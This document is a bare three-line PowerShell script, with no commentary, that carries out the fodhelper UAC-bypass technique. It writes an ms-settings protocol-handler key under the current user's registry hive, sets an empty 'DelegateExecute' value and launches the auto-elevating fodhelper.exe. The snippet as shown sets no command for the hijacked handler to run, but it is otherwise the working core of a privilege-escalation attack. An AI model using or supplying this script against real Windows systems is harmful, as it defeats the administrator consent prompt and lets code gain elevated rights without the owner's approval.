New-Item 'HKCU:\Software\Classes\ms-settings\shell\open\command' -Force
New-ItemProperty -Path 'HKCU:\Software\Classes\ms-settings\shell\open\command' -Name 'DelegateExecute' -Value '' -Force
Start-Process 'C:\Windows\System32\fodhelper.exe'
